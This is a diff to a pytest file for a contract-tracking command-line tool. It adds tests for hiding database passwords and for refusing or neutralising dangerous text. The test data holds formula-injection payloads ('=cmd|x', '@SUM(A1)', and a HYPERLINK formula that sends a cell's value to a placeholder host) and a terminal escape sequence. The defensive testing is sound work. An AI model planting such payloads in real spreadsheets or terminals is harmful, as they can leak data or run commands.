@@ -432,9 +432,14 @@ def test_kill_during_import_leaves_the_register_as_it_was(capsys: pytest.Capture
 
 # -- safety --------------------------------------------------------------------------------------
 
-def test_password_is_never_shown(capsys: pytest.CaptureFixture[str]) -> None:
-    code, out, err = track(capsys, "status", "--db",
-                           "postgresql://someone:s3cret-pw@127.0.0.1:9/none?connect_timeout=2")
+@pytest.mark.parametrize("url", [
+    "postgresql://someone:s3cret-pw@127.0.0.1:9/none?connect_timeout=2",
+    # libpq also reads a password from the query, as cloud consoles' connection strings give it
+    "postgresql://someone@127.0.0.1:9/none?connect_timeout=2&password=s3cret-pw",
+    "postgresql://someone:Other@127.0.0.1:9/none?sslpassword=s3cret-pw&connect_timeout=2",
+])
+def test_password_is_never_shown(capsys: pytest.CaptureFixture[str], url: str) -> None:
+    code, out, err = track(capsys, "status", "--db", url)
     assert code == 2 and "s3cret-pw" not in out + err and "***" in err
 
 
@@ -781,3 +786,35 @@ def test_impossible_dates_for_a_contract_are_named(capsys: pytest.CaptureFixture
                          str(tmp_path / "none.xlsx"), "--db", str(tmp_path / "r.sqlite"),
                          *[x for kv in args.items() for x in kv])
     assert code == 2 and flag in err and message in err
+
+
+@pytest.mark.parametrize(("flag", "value", "message"), [
+    ("--supplier", "Evil\x1b]0;pwned\x07Corp", "contains a control character"),
+    ("--reference", "=cmd|x", "start it with a letter or digit"),
+    ("--reference", "@SUM(A1)", "start it with a letter or digit"),
+])
+def test_text_a_spreadsheet_or_terminal_would_run_is_refused_at_add(
+        capsys: pytest.CaptureFixture[str], tmp_path: Path, commitments_blank: bytes, flag: str,
+        value: str, message: str) -> None:
+    db = str(tmp_path / "r.sqlite")
+    track(capsys, "init", "--db", db)
+    bid = fill_commitments(commitments_blank, tmp_path / "bid.xlsx")
+    args = {"--supplier": "Mersey Minds CIC", "--reference": "REF-1"} | {flag: value}
+    code, _, err = track(capsys, "add", str(SPEC), "--award-date", "2027-07-01",
+                         "--commitments", str(bid), "--db", db,
+                         *[x for kv in args.items() for x in kv])
+    assert code == 2 and flag in err and message in err
+    assert "\x1b" not in err
+
+
+def test_report_csvs_never_hold_a_live_formula(capsys: pytest.CaptureFixture[str],
+                                               tmp_path: Path) -> None:
+    from svauthor.tracking.report import _csv
+
+    text = _csv(["supplier", "n"], [['=HYPERLINK("http://x/?"&A1,"x")', 3], ["+1", -2],
+                                    ["@SUM(A1)", 0], ["Age Well", 1]])
+    import csv
+
+    rows = list(csv.reader(io.StringIO(text)))[1:]
+    assert [r[0][0] for r in rows[:3]] == ["'", "'", "'"] and rows[3][0] == "Age Well"
+    assert rows[1][1] == "-2"  # numbers stay numbers
